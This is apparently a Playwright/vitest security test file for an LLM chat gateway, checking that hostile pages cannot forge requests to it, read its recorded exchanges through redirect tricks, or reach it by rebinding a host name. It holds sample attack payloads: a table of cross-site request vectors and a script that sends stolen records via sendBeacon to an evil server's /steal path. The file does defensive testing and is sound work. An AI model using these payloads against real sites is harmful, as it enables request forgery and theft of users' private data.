import { createServer } from "node:http";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { hmiRoutes } from "../../src/contract/routes.ts";
import { type RunningStack, startInProcessStack } from "../../src/services/in-process-stack.ts";
import { TAP_PATH } from "../../src/tap/recorded-exchange.ts";
import { startTap, type Tap } from "../../src/tap/start-tap.ts";
import { PATIENTLY } from "../support/cli.ts";
import { call } from "../support/http.ts";
import { listenOnAnyPort } from "../support/listen.ts";
import { CHAT_IN_LAN, CHROMIUM, closeContexts, EVIL_SITE, NO_CHROMIUM, sharedChromium } from "./chromium.ts";
import { chatPageOf, openChatPage, shows } from "./page.ts";

if (CHROMIUM === undefined) test("pages of other sites", ({ skip }) => skip(NO_CHROMIUM));

/** How a page has its browser make a GET; `URL` stands for where. */
const WAYS: Readonly<Record<string, string>> = {
  image: '<img src="URL">',
  script: '<script src="URL"></script>',
  frame: '<iframe src="URL"></iframe>',
  style: '<link rel="stylesheet" href="URL">',
  fetch: '<script>fetch("URL", { mode: "no-cors" }).catch(() => undefined)</script>',
  "fetch without a referrer":
    '<meta name="referrer" content="no-referrer"><script>fetch("URL", { mode: "no-cors" }).catch(() => undefined)</script>',
  "event source": '<script>new EventSource("URL")</script>',
  navigation: '<script>location = "URL"</script>',
};

describe.runIf(CHROMIUM !== undefined)("pages of other sites", () => {
  let stack: RunningStack;
  let hmi: Tap;
  let browser: Browser;

  beforeAll(async () => {
    [stack, browser] = await Promise.all([
      startInProcessStack({ http: { allowed_hosts: [CHAT_IN_LAN] } }),
      sharedChromium(),
    ]);
    hmi = await startTap({ upstream: stack.hmi, callersJudgedBy: "upstream" });
  });
  afterAll(async () => {
    await closeContexts(browser);
    await hmi?.close();
    await stack?.close();
  });

  describe.each([CHAT_IN_LAN, "127.0.0.1", "localhost"])("send nothing to the HMI as %s", (host) => {
    test.each(Object.keys(WAYS))("by %s", async (way) => {
      // A browser does not tell what it was answered: the tap does.
      const path = hmiRoutes.generalStream.path(undefined, { message: `forged by ${way} for ${host}` });
      const target = `http://${host}:${new URL(hmi.url).port}${path}`;
      const page = await openPage();
      await visit(page, await serveEvil(() => WAYS[way]?.replaceAll("URL", target) ?? ""));
      const statuses = () =>
        hmi.exchangesAfter(0).flatMap((each) => (each.path === path ? [each.status] : []));
      await expect.poll(statuses, PATIENTLY).toContain(403);
      expect(new Set(statuses())).toEqual(new Set([403]));
      expect((await call(stack.hmi, hmiRoutes.sessions.path())).json.total).toBe(0);
    });
  });

  test("the page itself sends by POST, and so works under that name", async () => {
    const own = await startInProcessStack({ http: { allowed_hosts: [CHAT_IN_LAN] } });
    onTestFinished(() => own.close());
    const chat = await openChatPage(browser, `http://${CHAT_IN_LAN}:${new URL(own.hmi).port}/llm`);
    onTestFinished(() => chat.close());
    await chat.say("Count to 3");
    await shows(chat.lastReply, "1, 2, 3");
    expect(chat.complaints).toEqual([]);
  });

  test("a page that is led through a tap is served nothing, and reads no record", async () => {
    const tap = await startTap({ upstream: stack.gateway });
    onTestFinished(() => tap.close());
    await call(tap.url, "/models", { headers: { "x-prompt": "my salary is 1" } });
    const stolen: string[] = [];
    const evil = await serveEvil((path, body) => {
      if (path === "/steal") stolen.push(body);
      // If the tap led here, this would run under the tap's origin.
      return `<script>fetch("${TAP_PATH}").then((answer) => answer.text()).then((text) => navigator.sendBeacon("${evil}/steal", text))</script>`;
    });
    const page = await openPage();
    for (const path of [
      `//${new URL(evil).host}/evil.html`,
      `/\\${new URL(evil).host}/evil.html`,
      TAP_PATH,
    ]) {
      await visit(
        page,
        await serveEvil(() => `<script>location = ${JSON.stringify(tap.url + path)}</script>`),
      );
      await expect.poll(() => page.url(), PATIENTLY).toContain(tap.url);
      expect(await page.content()).not.toContain("my salary");
    }
    // The same from its own origin, with everything a page has to read another one's answer.
    await visit(page, evil);
    const read = await page.evaluate<string>(
      `fetch(${JSON.stringify(tap.url + TAP_PATH)}).then((answer) => answer.text(), String)`,
    );
    expect(read).not.toContain("my salary");
    expect(stolen.join()).not.toContain("my salary");
    expect(tap.exchangesAfter(0).every(({ path }) => path.startsWith("/"))).toBe(true);
  });

  test("a page that has pointed its name at a tap or the stand-in reads nothing there", async () => {
    const tap = await startTap({ upstream: stack.gateway });
    onTestFinished(() => tap.close());
    const page = await openPage();
    for (const url of [
      `${tap.url}${TAP_PATH}`,
      `${tap.url}/models`,
      `${stack.engine}/stand-in/generations`,
    ]) {
      const answered = page.waitForResponse(() => true, PATIENTLY);
      // A refusal without a word is shown as an error of the browser's own.
      await page.goto(url.replace("127.0.0.1", EVIL_SITE)).catch(() => undefined);
      expect([url, (await answered).status()]).toEqual([url, 403]);
    }
  });

  /** A page of another site's, whose content depends on its path and on what it was sent; its URL. */
  async function serveEvil(contentOf: (path: string, body: string) => string): Promise<string> {
    const url = await listenOnAnyPort(
      createServer((request, response) => {
        let body = "";
        request.on("data", (chunk) => {
          body += chunk;
        });
        request.on("end", () => {
          response.setHeader("content-type", "text/html");
          response.end(contentOf(request.url ?? "", body));
        });
      }),
    );
    return url.replace("127.0.0.1", EVIL_SITE);
  }

  async function openPage(): Promise<Page> {
    const context = await browser.newContext();
    onTestFinished(() => context.close());
    return chatPageOf(await context.newPage()).page;
  }
});

/** A page that leaves at once is no failure of the visit. */
async function visit(page: Page, url: string): Promise<void> {
  await page.goto(url, { waitUntil: "commit" }).catch(() => undefined);
}
